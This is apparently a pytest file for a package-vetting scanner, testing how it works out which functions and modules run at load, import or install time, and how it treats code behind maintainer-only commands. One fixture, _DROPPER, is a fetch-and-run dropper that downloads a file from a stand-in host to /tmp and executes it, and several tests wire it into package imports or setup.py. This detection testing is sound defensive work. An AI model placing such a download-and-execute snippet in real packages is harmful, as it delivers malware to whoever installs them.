"""Reachability: which function bodies run on load, and which modules an install- or
import-time module runs (``pkgvet.analysis.reach`` and its use by the builder and rules)."""

from __future__ import annotations

import ast
import textwrap
from itertools import pairwise

import pytest

from conftest import sdist
from pkgvet.analysis.reach import (
    argv_guarded,
    dead_ranges,
    imported_modules,
    load_ranges,
    maintainer_command_methods,
    merge_ranges,
    module_name,
)
from pkgvet.config import ScanConfig
from pkgvet.models import Finding, ScanResult
from pkgvet.pipeline import scan_bytes


def _lazy_functions(src: str, main_runs: bool = False) -> set[str]:
    """Names of the functions whose bodies do not run on load."""
    tree = ast.parse(textwrap.dedent(src))
    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef | ast.AsyncFunctionDef)]
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    dead = dead_ranges(tree, defs, calls, main_runs)
    assert dead == sorted(dead)
    assert all(b + 1 < a for (_, b), (a, _) in pairwise(dead))  # disjoint
    return {d.name for d in defs if _covered(d, dead)}


def _covered(d: ast.AST, dead: list[tuple[int, int]]) -> bool:
    """Every line of ``d`` lies in one of the ``dead`` ranges."""
    end = getattr(d, "end_lineno", None) or d.lineno
    return any(a <= d.lineno and end <= b for a, b in dead)


def test_called_functions_run_on_load_and_others_wait() -> None:
    src = """
        def payload():
            helper()
        def helper():
            pass
        def unused():
            payload()
        payload()
    """
    assert _lazy_functions(src) == {"unused"}


def test_constructor_methods_and_self_calls_follow_the_class() -> None:
    src = """
        class Loader:
            def __init__(self):
                self.start()
            def start(self):
                pass
            def other(self):
                pass
        class Idle:
            def __init__(self):
                pass
        Loader()
    """
    tree = ast.parse(textwrap.dedent(src))
    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    dead = dead_ranges(tree, defs, calls, False)
    lazy = {(d.name, d.lineno) for d in defs if _covered(d, dead)}
    assert lazy == {("other", 7), ("__init__", 10)}  # Idle is never instantiated


def test_functions_handed_to_calls_count_as_run() -> None:
    src = """
        import atexit, threading
        def beacon():
            pass
        def at_exit():
            pass
        def never():
            pass
        threading.Thread(target=beacon).start()
        atexit.register(at_exit)
    """
    assert _lazy_functions(src) == {"never"}


def test_main_block_runs_only_for_scripts() -> None:
    src = """
        def main():
            pass
        if __name__ == "__main__":
            main()
    """
    assert _lazy_functions(src) == {"main"}
    assert _lazy_functions(src, main_runs=True) == set()


def test_module_without_functions_has_only_its_main_block_dead() -> None:
    tree = ast.parse(
        textwrap.dedent(
            """
            import os
            os.system("true")
            if __name__ == "__main__":
                print(1)
                print(2)
            """
        )
    )
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert dead_ranges(tree, [], calls, main_runs=False) == [(4, 6)]
    assert dead_ranges(tree, [], calls, main_runs=True) == []
    assert dead_ranges(ast.parse("x = 1"), [], [], main_runs=False) == []


def test_nested_function_names_resolve_in_scope() -> None:
    src = """
        def outer():
            def inner():
                pass
            inner()
        def inner():
            pass
        outer()
    """
    tree = ast.parse(textwrap.dedent(src))
    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    dead = dead_ranges(tree, defs, calls, False)
    top_inner = next(d for d in defs if d.name == "inner" and d.col_offset == 0)
    nested = next(d for d in defs if d.name == "inner" and d.col_offset > 0)
    assert _covered(top_inner, dead)
    assert not _covered(nested, dead)


@pytest.mark.parametrize(
    ("rel", "name"),
    [
        ("pkg/__init__.py", "pkg"),
        ("pkg/sub/mod.py", "pkg.sub.mod"),
        ("src/pkg/core.py", "pkg.core"),
        ("setup.py", "setup"),
        ("pkg/not-a-module.py", None),
        ("pkg/data.txt", None),
    ],
)
def test_module_name(rel: str, name: str | None) -> None:
    assert module_name(rel) == name


def test_imported_modules_resolve_relative_imports() -> None:
    assert list(imported_modules("pkg", True, (1, 1, "core", ("x",)))) == [
        "pkg",
        "pkg.core",
        "pkg.core.x",
    ]
    assert list(imported_modules("pkg.sub.mod", False, (1, 2, "", ("util",)))) == [
        "pkg",
        "pkg.util",
    ]
    assert list(imported_modules("pkg.a", False, (1, 0, "os.path", ()))) == ["os", "os.path"]
    assert list(imported_modules("pkg", True, (1, 5, "x", ()))) == []  # beyond the top


_DROPPER = """\
import os
import urllib.request


def fetch():
    urllib.request.urlretrieve("http://example.invalid/x", "/tmp/x")
    os.system("/tmp/x")
"""


def _scan(files: dict[str, str]) -> ScanResult:
    return scan_bytes(sdist("zzreach", "1.0", files), "zzreach-1.0.tar.gz",
                      ScanConfig(use_model=False))


def _dropper(result: ScanResult) -> Finding:
    return next(f for f in result.findings if f.rule_id == "PV203")


def test_module_imported_by_the_package_runs_on_import() -> None:
    lazy = _scan({"zzreach/__init__.py": "from .core import fetch\n",
                  "zzreach/core.py": _DROPPER})
    eager = _scan({"zzreach/__init__.py": "from .core import fetch\n",
                   "zzreach/core.py": _DROPPER + "\nfetch()\n"})
    assert _dropper(lazy).trigger.value == "runtime"
    assert _dropper(eager).trigger.value == "import"
    assert _dropper(eager).severity > _dropper(lazy).severity


def test_module_not_imported_at_load_stays_runtime() -> None:
    result = _scan({"zzreach/__init__.py": "def load():\n    from . import core\n",
                    "zzreach/core.py": _DROPPER + "\nfetch()\n"})
    assert _dropper(result).trigger.value == "runtime"


def test_transitive_imports_from_setup_run_at_install() -> None:
    result = _scan({"setup.py": "from zzreach import version\n",
                    "zzreach/__init__.py": "",
                    "zzreach/version.py": "from zzreach import core\n",
                    "zzreach/core.py": _DROPPER + "\nfetch()\n"})
    assert _dropper(result).trigger.value == "install"


def test_top_level_module_named_after_the_project_is_imported() -> None:
    result = _scan({"zzreach.py": _DROPPER + "\nfetch()\n", "other.py": _DROPPER + "\nfetch()\n"})
    by_path = {f.path.rsplit("/", 1)[-1]: f for f in result.findings if f.rule_id == "PV203"}
    assert by_path["zzreach.py"].trigger.value == "import"
    assert by_path["other.py"].trigger.value == "runtime"


def test_merge_ranges_keeps_the_same_lines() -> None:
    ranges = [(10, 20), (1, 3), (12, 15), (4, 6), (21, 21), (30, 31)]
    merged = merge_ranges(ranges)
    assert merged == [(1, 6), (10, 21), (30, 31)]
    lines = {n for a, b in ranges for n in range(a, b + 1)}
    assert {n for a, b in merged for n in range(a, b + 1)} == lines
    assert merge_ranges([]) == []


def test_a_name_resolved_once_per_span_still_follows_every_binding() -> None:
    """Hostile shape: one function name bound n times and called n times at module level.
    Each name is resolved once per function span (n * n edges before: 3.9 s for 8,000; the
    timing is in benchmarks/bench_dataflow.py), and every binding is still followed; a name
    passed uncalled and later called is followed both ways (constructors only when called)."""
    n = 200
    src = "def f():\n    pass\n" * n + "f()\n" * n
    tree = ast.parse(src)
    defs = [x for x in ast.walk(tree) if isinstance(x, ast.FunctionDef)]
    calls = [x for x in ast.walk(tree) if isinstance(x, ast.Call)]
    assert dead_ranges(tree, defs, calls, main_runs=False) == []
    assert _lazy_functions(
        """
        class C:
            def __init__(self):
                pass
        class D:
            def __init__(self):
                pass
        def outer():
            def f():
                pass
            run(f)
            run(f)
        def f():
            pass
        register(D)
        run(f)
        C()
        C()
        outer()
        """
    ) == {"__init__"}  # D's: D is only passed, never called


# -- maintainer commands ----------------------------------------------------------------------


def _guarded_lines(src: str) -> set[int]:
    tree = ast.parse(textwrap.dedent(src))
    ranges = argv_guarded(tree, lambda n: ast.unparse(n))
    return {ln for a, b in ranges for ln in range(a, b + 1)}


@pytest.mark.parametrize(
    ("test", "dormant"),
    [
        ("sys.argv[-1] == 'publish'", True),
        ("'upload' in sys.argv", True),
        ("sys.argv[1] in ('tag', 'release')", True),
        ("command == 'publish'", True),  # command = sys.argv[-1] at module level
        ("sys.argv[-1] == 'publish' and os.getenv('CI')", True),
        ("sys.argv[-1] == 'publish' or sys.argv[-1] == 'upload'", True),
        ("sys.argv[-1] == 'publish' or 'install' in sys.argv", False),
        ("sys.argv[-1] != 'publish'", False),
        ("'install' in sys.argv", False),
        ("sys.argv[1] in ('publish', 'egg_info')", False),
        ("sys.argv[0] == '-c'", False),  # how pip runs setup.py
        ("other == 'publish'", False),
    ],
)
def test_argv_guards(test: str, dormant: bool) -> None:
    src = f"""
        import sys
        command = sys.argv[-1]
        if {test}:
            run()
        else:
            other()
    """
    lines = _guarded_lines(src)
    assert (5 in lines) is dormant
    assert 7 not in lines  # the else branch runs


def test_functions_only_maintainer_commands_call_are_dormant() -> None:
    src = textwrap.dedent("""
        import sys
        def publish():
            upload()
        def upload():
            pass
        def build():
            pass
        build()
        if sys.argv[-1] == 'publish':
            publish()
            build()
    """)
    tree = ast.parse(src)
    defs = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    guarded = argv_guarded(tree, lambda n: ast.unparse(n))
    dead, dormant = load_ranges(tree, defs, calls, False, guarded)
    by_name = {d.name: d for d in defs}
    assert _covered(by_name["publish"], dormant) and _covered(by_name["upload"], dormant)
    assert not _covered(by_name["build"], dormant)  # module level calls it too
    assert not any(_covered(d, dead) for d in defs)  # all run when the command is given
    assert load_ranges(tree, defs, calls, False, [])[1] == []


@pytest.mark.parametrize(
    ("extra", "cmdclass", "dormant"),
    [
        ("", {"upload": "Upload"}, True),
        ("", {"upload": "Upload", "test": "Upload"}, True),
        ("", {"upload": "Upload", "install": "Upload"}, False),
        ("install.run = Upload.run", {"upload": "Upload"}, False),
        ("class Install(Upload):\n    pass", {"upload": "Upload"}, False),
    ],
)
def test_maintainer_command_classes(extra: str, cmdclass: dict[str, str], dormant: bool) -> None:
    refs = ", ".join(f"{k!r}: {v}" for k, v in cmdclass.items())
    src = (
        "import os\n"
        "class Upload:\n"
        "    os.system('at class level')\n"
        "    def run(self):\n"
        "        os.system('twine upload dist/*')\n"
        f"{extra}\n"
        f"setup(cmdclass={{{refs}}})\n"
    )
    ranges = maintainer_command_methods(ast.parse(src), cmdclass)
    assert ranges == ([(4, 5)] if dormant else [])
